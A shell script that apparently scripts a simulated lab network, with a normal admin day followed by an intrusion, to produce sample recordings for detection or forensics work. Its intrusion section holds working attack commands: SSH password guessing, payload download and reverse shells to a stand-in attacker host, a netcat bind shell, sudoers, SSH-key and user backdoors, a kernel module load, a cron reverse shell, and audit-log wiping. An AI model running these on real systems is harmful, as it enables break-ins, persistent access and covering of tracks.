# Who does what in the sample. Sourced by record.sh, which has `inside NETWORK HOST COMMAND…`.
# People come in by ssh and type into a shell; `@N` waits N seconds, other lines are typed as they are.

typed() {
    sleep 1.5
    while IFS= read -r line; do
        case $line in
            @*) sleep "${line#@}" ;;
            *) printf '%s\n' "$line"; sleep 0.5 ;;
        esac
    done
}

login() { # USER PASSWORD ADDRESS: a session by ssh from that address, with what is typed on standard input
    typed | inside world client sshpass -p "$2" ssh -tt -q -b "$3" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no "$1@192.0.2.80" > /dev/null 2>&1 || true
}

start_daemons() {
    inside web web-01 /usr/sbin/sshd
    inside web web-01 /usr/sbin/nginx
    inside web web-01 /usr/sbin/cron
    inside world updates python3 -m http.server --bind 198.51.100.10 --directory /srv/world/198 80 > /dev/null 2>&1 &
    inside world drop python3 -m http.server --bind 203.0.113.66 --directory /srv/world/203 443 > /dev/null 2>&1 &
    sleep 1
}

normal_day() {
    login anna 'correct horse' 192.0.2.10 << 'TYPED'
uptime
df -h /
ls -l /var/www/html
sudo -k
sudo tail -n 3 /var/log/nginx/access.log
@1
correct horse
sudo nginx -t
@1
ps -ef | grep -c nginx
su - deploy
@1
sunshine1
@1
whoami
exit
exit
TYPED
    for page in index about contact; do
        inside world visitor curl -s -o /dev/null "http://192.0.2.80/$page.html"
        sleep 0.7
    done
    login deploy sunshine1 192.0.2.10 << 'TYPED'
cd /srv/site
echo '<p>Open until six.</p>' >> contact.html
git add -A
git commit -q -m 'Opening hours'
git push -q
cp *.html /var/www/html/
find . -name '*.html' | xargs grep -l Open
tar -czf /home/deploy/site.tar.gz *.html
curl -s http://updates.example.net/latest
python3 -m http.server 8080 > /dev/null 2>&1 &
@1
curl -s -o /dev/null http://127.0.0.1:8080/index.html
curl -s -o /dev/null http://127.0.0.1:8080/about.html
kill %1
su - anna
@1
correct hrose
@4
exit
TYPED
    # A minute more for cron, with a visitor now and then.
    for page in index prices about index contact index prices; do
        sleep 5
        inside world visitor curl -s -o /dev/null "http://192.0.2.80/$page.html"
    done
}

intrusion() {
    # Guessed passwords by ssh, the seventh is right.
    for guess in 123456 password deploy letmein welcome1 qwerty; do
        login deploy "$guess" 203.0.113.66 < /dev/null
    done

    # The attacker's ends: two shells call back, and one waits on the server.
    (
        for _ in 1 2; do
            (sleep 2; echo id; sleep 1; echo 'cat /etc/shadow'; sleep 1; echo exit; sleep 1) |
                inside world drop nc.traditional -l -p 8443 -s 203.0.113.66
        done
    ) > /dev/null 2>&1 &
    (
        until (sleep 1; echo id; sleep 1; echo 'uname -a'; sleep 1; echo 'cat /etc/passwd'; sleep 1; echo exit; sleep 1) |
            inside world drop nc.traditional -s 203.0.113.66 192.0.2.80 4444; do sleep 1; done
    ) > /dev/null 2>&1 &

    login deploy sunshine1 203.0.113.66 << 'TYPED'
id
sudo -l
@1
sunshine1
@2
su -
@1
toor
@4
su -
@1
admin
@4
su -
@1
secret
@4
su -
@1
passw0rd
@4
su -
@1
root123
@4
su -
@1
changeme
@4
su -
@1
tr0ub4dor
@2
id
curl -s -o /dev/shm/.fc-cached http://203.0.113.66:443/fc-cached
chmod 755 /dev/shm/.fc-cached
/dev/shm/.fc-cached 203.0.113.66 8443 -e /bin/sh &
@7
echo 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-fc-cache
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx0000000000000000000000000000000000000000 fc' >> /root/.ssh/authorized_keys
useradd -m -s /bin/bash -G sudo fcache
echo 'fcache:fcache' | chpasswd
@1
nc.traditional -l -p 4444 -e /bin/sh &
@8
python3 -c 'import os; m = os.memfd_create("fc"); os.write(m, open("/bin/id", "rb").read()); os.execv(f"/proc/self/fd/{m}", ["id"])'
curl -s -o /dev/shm/.fc.ko http://203.0.113.66:443/fc.ko
insmod /dev/shm/.fc.ko
echo '* * * * * root bash -c "bash -i >& /dev/tcp/203.0.113.66/8443 0>&1"' > /etc/cron.d/fc-cache
@70
rm -f /etc/cron.d/fc-cache
: > /var/log/audit/audit.log
auditctl -D
@1
kill $(cat /run/auditd.pid)
@1
exit
exit
TYPED
}
